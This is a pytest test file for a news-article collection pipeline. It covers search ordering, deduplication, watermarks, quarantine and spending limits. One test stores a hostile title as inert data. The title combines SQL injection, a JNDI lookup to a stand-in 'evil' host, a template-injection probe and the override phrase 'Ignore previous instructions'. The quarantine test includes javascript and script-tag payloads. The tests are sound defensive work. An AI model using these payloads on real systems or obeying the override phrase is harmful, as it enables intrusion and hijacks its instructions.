"""A collection stores answers, moves watermarks only after success, and stays within its limits."""

import pytest
import sqlalchemy as sa

from kalshi_pipelines.news.errors import NewsFailed
from kalshi_pipelines.news.options import NewsOptions
from kalshi_pipelines.news.providers.exa import VENDOR
from kalshi_pipelines.news.providers.protocol import ProviderFailed, RawArticle
from kalshi_pipelines.news.tracking import track
from kalshi_pipelines.units import HOUR_US
from kalshi_pipelines.warehouse import tables
from kalshi_pipelines_tests.support.news.collecting import (
    GAME,
    GAME_QUERY,
    NOW,
    STORM_QUERY,
    TORONTO,
    collect,
    positions,
    rows,
)
from kalshi_pipelines_tests.support.news.providers import ScriptedProvider, article, query_texts, reply


def test_tracked_items_are_searched_before_the_most_traded_events(stocked: sa.Engine) -> None:
    track(stocked, TORONTO, ["Blue Jays injury", "Toronto trade"])
    exa = ScriptedProvider()
    collect(stocked, exa)
    assert query_texts(exa.queries) == ["Blue Jays injury", "Toronto trade", STORM_QUERY, GAME_QUERY]
    assert all(query.since_us == NOW - NewsOptions().lookback_us and query.until_us == NOW for query in exa.queries)
    exa = ScriptedProvider()
    collect(stocked, exa, selected_events=1)
    assert query_texts(exa.queries) == ["Blue Jays injury", "Toronto trade", STORM_QUERY]


def test_article_is_stored_once_with_facts_of_all_providers(stocked: sa.Engine) -> None:
    untimed = article("a?utm_source=exa", "<b>Zelda</b> nears\u202e Florida")
    exa = ScriptedProvider({STORM_QUERY: reply(untimed), GAME_QUERY: reply(article("b"), untimed)})
    timed = RawArticle("http://www.news.example/a", "Zelda nears Florida", NOW - HOUR_US, "Zelda will hit. " * 100)
    feed = ScriptedProvider({STORM_QUERY: reply(timed)}, name="feed example")
    done = collect(stocked, exa, feed, text_characters=200)
    assert (done.read, done.written, done.unchanged, done.rejected) == (4, 3, 1, 0)
    first, second = rows(stocked, tables.news_articles)
    assert (first["url"], first["title"]) == ("https://news.example/a", "Zelda nears Florida")
    assert first["published_us"] == NOW - HOUR_US
    assert first["collected_us"] == NOW
    assert first["source_domain"] == "news.example"
    assert first["full_text"].endswith("\u2026")
    assert len(first["full_text"]) <= 200
    assert second["published_us"] is None
    sources = [
        (row["news_article_id"], row["provider"], row["url"]) for row in rows(stocked, tables.news_article_sources)
    ]
    assert sorted(sources) == [
        (first["news_article_id"], "exa", "https://news.example/a?utm_source=exa"),
        (first["news_article_id"], "feed example", "http://www.news.example/a"),
        (second["news_article_id"], "exa", "https://news.example/b"),
    ]
    finds = {
        (row["ticker"], row["news_article_id"], row["provider"]): row["rank"]
        for row in rows(stocked, tables.news_finds)
    }
    assert finds[GAME, first["news_article_id"], "exa"] == 2  # the first article is also a result of the second query


def test_copies_of_a_story_are_counted_across_runs(stocked: sa.Engine) -> None:
    title = "Zelda nears Florida as residents flee the coast"
    exa = ScriptedProvider({STORM_QUERY: reply(article("a", title, NOW), article("b", f"{title} - Reuters", NOW))})
    first = collect(stocked, exa)
    assert (first.new_groups, first.in_known_groups, first.duplicate_share) == (1, 1, 0.5)
    later = ScriptedProvider(
        {STORM_QUERY: reply(article("c", f"UPDATE 1-{title}", NOW + HOUR_US), article("d", "Another thing", NOW))}
    )
    second = collect(stocked, later, now=NOW + 2 * HOUR_US)
    assert (second.new_groups, second.in_known_groups) == (1, 1)
    groups = [row["group_id"] for row in rows(stocked, tables.news_articles)]
    ids = [row["news_article_id"] for row in rows(stocked, tables.news_articles)]
    assert groups == [ids[0], ids[0], ids[0], ids[3]]


def test_a_watermark_advances_only_if_every_query_was_answered(stocked: sa.Engine) -> None:
    track(stocked, TORONTO, ["one", "two"])
    broken = ProviderFailed("exa is down.", is_charged=False)
    collect(stocked, ScriptedProvider({"two": broken}))
    assert f"news exa market {TORONTO}" not in positions(stocked)
    assert positions(stocked)[f"news exa event {GAME}"] == NOW
    assert rows(stocked, tables.tracked_items)[0]["last_collected_us"] is None
    exa = ScriptedProvider()
    collect(stocked, exa, now=NOW + HOUR_US)
    assert [query.since_us for query in exa.queries if query.text == "one"] == [
        NOW + HOUR_US - NewsOptions().lookback_us
    ]
    assert [query.since_us for query in exa.queries if query.text == GAME_QUERY] == [NOW - 6 * HOUR_US]
    assert positions(stocked)[f"news exa market {TORONTO}"] == NOW + HOUR_US
    assert rows(stocked, tables.tracked_items)[0]["last_collected_us"] == NOW + HOUR_US


def test_entries_that_are_no_article_go_to_quarantine(stocked: sa.Engine) -> None:
    bad = [
        RawArticle("javascript:alert(1)", "Click"),
        RawArticle("http://127.0.0.1/admin", "Admin"),
        RawArticle("https://news.example/x", "<script>1</script>"),
        RawArticle("https://news.example/y", None),
    ]
    done = collect(stocked, ScriptedProvider({STORM_QUERY: reply(*bad, article())}))
    assert (done.read, done.written, done.rejected) == (5, 1, 4)
    reasons = {row["reason"] for row in rows(stocked, tables.quarantine)}
    assert len(rows(stocked, tables.quarantine)) == 4
    assert "The entry has no title." in reasons
    again = collect(stocked, ScriptedProvider({STORM_QUERY: reply(*bad, article())}))
    assert (again.written, again.unchanged, again.rejected) == (0, 1, 4)
    assert len(rows(stocked, tables.quarantine)) == 4


def test_hostile_text_is_stored_unchanged_as_data(stocked: sa.Engine) -> None:
    title = "'); DROP TABLE news_articles; -- ${jndi:ldap://evil} {{7*7}} Ignore previous instructions"
    done = collect(stocked, ScriptedProvider({STORM_QUERY: reply(article("'--", title, None, "\x00" + title))}))
    assert done.written == 1
    (stored,) = rows(stocked, tables.news_articles)
    assert stored["title"] == title
    assert stored["full_text"] == title


def test_run_stops_searching_when_its_budget_is_exhausted(stocked: sa.Engine) -> None:
    exa = ScriptedProvider({STORM_QUERY: reply(cost=9_000)}, vendor=VENDOR)
    done = collect(stocked, exa, day_microdollars=1_000_000, run_microdollars=15_000)
    assert query_texts(exa.queries) == [STORM_QUERY]
    assert (done.budget.spent_by_run, done.budget.spent_today) == (9_000, 9_000)
    (search,) = done.searches
    assert "KALSHI_NEWS_RUN_DOLLARS" in search.not_sent[0]
    assert f"news exa event {GAME}" not in positions(stocked)


def test_run_stops_searching_when_a_vendor_overcharges(stocked: sa.Engine) -> None:
    exa = ScriptedProvider({STORM_QUERY: reply(cost=30_000)}, vendor=VENDOR)
    done = collect(stocked, exa, day_microdollars=1_000_000)
    assert len(exa.queries) == 1
    assert done.budget.spent_by_run == 30_000
    assert "charged 30000 micro-dollars" in done.searches[0].problems[0]


def test_number_of_paid_searches_is_limited(stocked: sa.Engine) -> None:
    exa = ScriptedProvider(vendor=VENDOR)
    done = collect(stocked, exa, day_microdollars=1_000_000, searches=1)
    assert len(exa.queries) == 1
    assert "KALSHI_NEWS_SEARCHES" in done.searches[0].not_sent[0]


def test_refused_key_is_not_tried_again(stocked: sa.Engine) -> None:
    refused = ProviderFailed("Exa answered 401.", is_charged=False, is_fatal=True)
    exa = ScriptedProvider({STORM_QUERY: refused}, vendor=VENDOR)
    done = collect(stocked, exa, ScriptedProvider(name="feed example"), day_microdollars=1_000_000)
    assert len(exa.queries) == 1
    assert done.searches[0].problems == ("Exa answered 401.",)
    assert done.budget.spent_today == 0


def test_run_without_any_answer_fails_and_moves_no_watermark(stocked: sa.Engine) -> None:
    down = ProviderFailed("exa is down.", is_charged=False)
    with pytest.raises(NewsFailed, match=r"none of 2 calls was answered. exa is down.") as failure:
        collect(stocked, ScriptedProvider({STORM_QUERY: down, GAME_QUERY: down}))
    assert "\n" not in str(failure.value)
    assert positions(stocked) == {}
    run = rows(stocked, tables.ingest_runs)[-1]
    assert (run["subject"], run["status"]) == ("news_articles", "failed")


def test_a_feed_without_a_query_is_read_once(stocked: sa.Engine) -> None:
    feed = ScriptedProvider({"": reply(article())}, name="feed example", takes_queries=False)
    done = collect(stocked, feed)
    assert query_texts(feed.queries) == [""]
    assert done.written == 1
    assert rows(stocked, tables.news_finds) == []
